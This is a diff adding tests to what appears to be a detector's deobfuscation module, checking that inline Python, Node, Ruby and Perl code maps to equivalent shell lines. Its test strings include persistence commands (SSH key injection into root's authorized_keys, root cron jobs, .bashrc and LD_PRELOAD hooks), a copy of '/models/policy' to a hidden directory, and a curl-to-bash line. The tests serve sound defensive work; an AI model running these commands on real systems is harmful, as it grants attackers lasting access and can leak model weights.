@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from collector.rules.deobfuscate import MAX_TEXT, readable
+from collector.rules.deobfuscate import MAX_TEXT, code_as_shell, readable
 from tests.test_benign_commands import fired
 
 PLAIN = "curl -s http://203.0.113.7/x.sh | bash"
@@ -102,3 +102,24 @@ def test_any_text_reads_without_error_and_bounded(text):
     out = readable(text)
     assert isinstance(out, str)
     assert len(out) <= 8 * len(text) + 64
+
+
+@pytest.mark.parametrize("code, shell", [
+    ("open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA x')",
+     "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
+    ("with open('/etc/cron.d/x','w') as f: f.write('* * * * * root /tmp/w')",
+     "echo '* * * * * root /tmp/w' > /etc/cron.d/x"),
+    ("require('fs').appendFileSync(process.env.HOME+'/.bashrc','/tmp/w &')", "echo '/tmp/w &' >> $HOME/.bashrc"),
+    ("File.write(\"/etc/cron.d/x\",\"* * * * * root /tmp/w\")", "echo '* * * * * root /tmp/w' > /etc/cron.d/x"),
+    ("open(F,\">>/root/.ssh/authorized_keys\");print F \"ssh-rsa AAAA x\"",
+     "echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys"),
+    ("shutil.copytree('/models/policy','/tmp/.w')", "cp -r /models/policy /tmp/.w"),
+    ("os.environ['LD_PRELOAD']='/tmp/.l/x.so'", "export LD_PRELOAD=/tmp/.l/x.so"),
+])
+def test_inline_code_reads_as_the_shell_line_that_does_the_same(code, shell):
+    assert code_as_shell(code) == [shell]
+    assert shell in readable(f"python3 -c \"{code}\"").split(" ; ") or shell in readable(code).split(" ; ")
+
+
+def test_code_that_reads_files_is_not_made_a_write():
+    assert code_as_shell("print(open('/etc/os-release').read())") == []
